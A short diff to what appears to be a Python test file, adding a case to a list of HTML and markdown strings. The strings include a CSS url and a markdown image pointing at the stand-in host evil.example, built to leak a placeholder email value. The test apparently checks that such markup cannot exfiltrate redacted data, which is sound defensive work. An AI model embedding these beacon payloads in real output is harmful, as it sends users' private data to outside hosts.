@@ -49,6 +49,7 @@ def shown(text: str, cuts: list[int] | None = None, edits: list[Edit] | None = N
         "<a href=x onclick=send('[EMAIL_1]')>",
         "<!-- [EMAIL_1] -->",
         "<style>a{background:url(//evil.example/[EMAIL_1])}</style>",
+        "[r]: x ![x](//evil.example/\\\n[EMAIL_1])",
         "[URL_1][EMAIL_1]",
         "[DATA_1][EMAIL_1])",
     ],
